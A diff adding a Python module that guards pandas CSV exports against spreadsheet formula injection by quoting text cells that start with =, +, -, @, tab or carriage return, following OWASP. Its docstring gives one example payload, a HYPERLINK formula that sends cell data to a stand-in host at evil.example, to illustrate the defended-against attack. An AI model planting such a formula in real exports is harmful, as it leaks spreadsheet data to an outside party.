@@ -1,0 +1,103 @@
+"""Tables written for spreadsheets: CSV that cannot inject formulas.
+
+Model names, fold names and ids come from users' files, so a model called
+``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run as a formula when an exported CSV is
+opened in Excel, LibreOffice or Google Sheets (CSV/formula injection). :func:`csv_safe` applies
+the OWASP rule (https://owasp.org/www-community/attacks/CSV_Injection): a text cell that starts
+with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, so the
+spreadsheet shows it as text (``'=HYPERLINK(...)``).
+
+Left untouched:
+
+* numeric, boolean and datetime columns (``-0.5`` in a float column stays the number -0.5);
+* text that is a plain decimal number (``"-1"``, ``"+2.5e-3"``): a spreadsheet reads it as that
+  number, never as a formula, and a quote would only show up as a stray character;
+* missing values and non-text objects in mixed columns.
+
+Quoting of delimiters, quotes and line breaks inside cells is left to :meth:`DataFrame.to_csv`.
+"""
+
+from __future__ import annotations
+
+import re
+
+import numpy as np
+import pandas as pd
+
+__all__ = ["FORMULA_PREFIXES", "csv_safe", "neutralise", "to_safe_csv"]
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP).
+FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
+
+
+def neutralise(value: object) -> object:
+    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_PREFIXES)
+        and not _PLAIN_NUMBER.match(value)
+    ):
+        return "'" + value
+    return value
+
+
+def _is_untouched(series: pd.Series) -> bool:
+    dtype = series.dtype
+    return (
+        pd.api.types.is_numeric_dtype(dtype)  # includes bool
+        or pd.api.types.is_datetime64_any_dtype(dtype)
+        or pd.api.types.is_timedelta64_dtype(dtype)
+        or isinstance(dtype, pd.PeriodDtype | pd.IntervalDtype)
+    )
+
+
+def _safe_column(series: pd.Series) -> pd.Series | None:
+    """The neutralised column, or None when nothing in it needs a change."""
+    if isinstance(series.dtype, pd.CategoricalDtype):
+        series = series.astype(object)
+    # each distinct value is checked once: exports repeat a model name on every curve vertex
+    codes, uniques = pd.factorize(series, use_na_sentinel=True)
+    uniques = np.asarray(uniques, dtype=object)
+    fixed = np.array([neutralise(u) for u in uniques], dtype=object)
+    changed = np.fromiter((a is not b for a, b in zip(uniques, fixed, strict=True)), bool,
+                          count=len(uniques))
+    if not changed.any():
+        return None
+    hit = changed[codes] & (codes >= 0)
+    values = series.to_numpy(dtype=object, copy=True)
+    values[hit] = fixed[codes[hit]]
+    dtype = series.dtype if pd.api.types.is_string_dtype(series.dtype) else object
+    return pd.Series(values, index=series.index, name=series.name, dtype=dtype)
+
+
+def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells and column names cannot run as spreadsheet formulas.
+
+    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading
+    single quote (OWASP); numeric, boolean and datetime columns and text that is a plain number
+    are kept as they are. The index is not changed (write with ``index=False``, or use
+    :func:`to_safe_csv`). ``frame`` itself is not modified.
+
+    >>> csv_safe(pd.DataFrame({"model": ["=1+1", "lr"], "auc": [-0.5, 0.9]})).to_dict("list")
+    {'model': ["'=1+1", 'lr'], 'auc': [-0.5, 0.9]}
+    """
+    out = frame.copy(deep=False)
+    for position in range(frame.shape[1]):
+        column = frame.iloc[:, position]
+        if _is_untouched(column):
+            continue
+        fixed = _safe_column(column)
+        if fixed is not None:
+            out.isetitem(position, fixed)
+    if not isinstance(out.columns, pd.MultiIndex):
+        names = [neutralise(c) for c in out.columns]
+        if any(a is not b for a, b in zip(names, out.columns, strict=True)):
+            out.columns = pd.Index(names, dtype=object)
+    return out
+
+
+def to_safe_csv(frame: pd.DataFrame, *, index: bool = False, **to_csv) -> str:
+    """The text of ``csv_safe(frame).to_csv(index=index, **to_csv)`` (no index by default)."""
+    return csv_safe(frame).to_csv(None, index=index, **to_csv)
